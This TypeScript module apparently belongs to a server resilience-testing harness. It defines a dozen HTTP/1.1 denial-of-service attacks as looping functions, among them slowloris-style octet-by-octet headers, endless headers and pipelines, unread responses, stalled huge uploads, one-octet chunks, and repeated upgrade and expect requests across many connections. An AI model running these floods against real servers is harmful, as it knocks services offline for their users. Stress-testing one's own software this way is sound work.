/**
 * What strangers do over HTTP/1.1, each a loop until it is told to stop.
 *
 * @module
 */
import {
  type Attack,
  type AttackTarget,
  type Clock,
  pause,
  repeatOver,
  turn,
  Wire,
} from "./attack.ts";

/** Connections at one time, where one is not enough. */
const CROWD = 20;
const BLOCK = new Uint8Array(65_536).fill(0x61);

/** Repeats `once` on one connection after the other. */
function repeat(once: (wire: Wire, clock: Clock, host: string) => Promise<number>): Attack {
  return repeatOver(
    (target) => Wire.dial(target, "http/1.1"),
    (wire, clock, { host }) => once(wire, clock, host),
  );
}

/** The same on many connections at once. */
function repeatMany(once: (wire: Wire, clock: Clock, host: string) => Promise<number>): Attack {
  return async (target: AttackTarget, clock) => {
    await Promise.all(Array.from({ length: CROWD }, () => repeat(once)(target, clock)));
  };
}

/** A head with these lines and the empty one. */
function head(line: string, host: string, ...fields: readonly string[]): string {
  return [`${line} HTTP/1.1`, `Host: ${host}`, ...fields, "", ""].join("\r\n");
}

/** Sends one piece again and again while it is taken. */
async function flood(wire: Wire, clock: Clock, piece: string | Uint8Array): Promise<number> {
  while (!clock.stopped && !wire.gone) {
    clock.done++;
    await wire.send(piece);
  }
  return 0;
}

/** Each by its name. */
export const HTTP1_ATTACKS: Readonly<Record<string, Attack>> = {
  "heads octet by octet": repeatMany(async (wire, clock, host) => {
    wire.socket.setNoDelay(true);
    for (const octet of head("GET /", host, `X-Long: ${"x".repeat(500)}`)) {
      await wire.send(octet);
      await pause(2);
      if (clock.stopped || wire.gone) break;
    }
    return 1;
  }),
  /** Each octet in a TLS record and a TCP segment of its own. */
  "TLS records of one octet over HTTP/1.1": repeat(async (wire, _clock, host) => {
    wire.socket.setNoDelay(true);
    for (const octet of head("GET /", host)) await wire.send(octet);
    return 1;
  }),
  "heads without end": repeat(async (wire, clock, host) => {
    await wire.send(`GET / HTTP/1.1\r\nHost: ${host}\r\n`);
    return await flood(wire, clock, `X-More: ${"x".repeat(100)}\r\n`.repeat(50));
  }),
  "pipelines without end": repeat((wire, clock, host) =>
    flood(wire, clock, head("GET /", host).repeat(200))
  ),
  "pipelines whose answers nobody reads": repeatMany((wire, clock, host) => {
    wire.socket.pause();
    return stall(wire, clock, head("GET /large", host).repeat(200));
  }),
  "requests over HTTP/1.1 that are answered at once": repeat((wire, clock) =>
    flood(wire, clock, head("GET /", "other.test").repeat(200))
  ),
  "uploads that are answered early": repeat(async (wire, clock, host) => {
    await wire.send(head("POST /", "other.test", "Content-Length: 1000000"), BLOCK);
    await wire.send(head("POST /early", host, "Content-Length: 1000000"), BLOCK);
    return await flood(wire, clock, BLOCK);
  }),
  "uploads that nobody takes": repeatMany(async (wire, clock, host) => {
    await wire.send(head("POST /stuck", host, "Content-Length: 10000000000"));
    return await stall(wire, clock, BLOCK);
  }),
  "chunks of one octet": repeat(async (wire, clock, host) => {
    await wire.send(head("POST /", host, "Transfer-Encoding: chunked"));
    return await flood(wire, clock, "1\r\na\r\n".repeat(1000));
  }),
  "chunks of one octet with long extensions": repeat(async (wire, clock, host) => {
    await wire.send(head("POST /", host, "Transfer-Encoding: chunked"));
    return await flood(wire, clock, `1;x=${"y".repeat(500)}\r\na\r\n`.repeat(50));
  }),
  "upgrades without end": repeat((wire, clock, host) => {
    const fields = ["Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13"];
    const key = "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==";
    return flood(wire, clock, head("GET /", host, ...fields, key).repeat(50));
  }),
  "expectations without end": repeat((wire, clock, host) =>
    flood(
      wire,
      clock,
      (head("POST /", host, "Expect: 100-continue", "Content-Length: 1") + "a").repeat(100),
    )
  ),
};

/** Sends as long as anything is taken, and then stays until the time is over. */
async function stall(wire: Wire, clock: Clock, piece: string | Uint8Array): Promise<number> {
  clock.done++;
  const flooded = flood(wire, clock, piece);
  while (!clock.stopped && !wire.gone) await pause(20);
  wire.socket.destroy();
  await flooded;
  await turn();
  return 0;
}
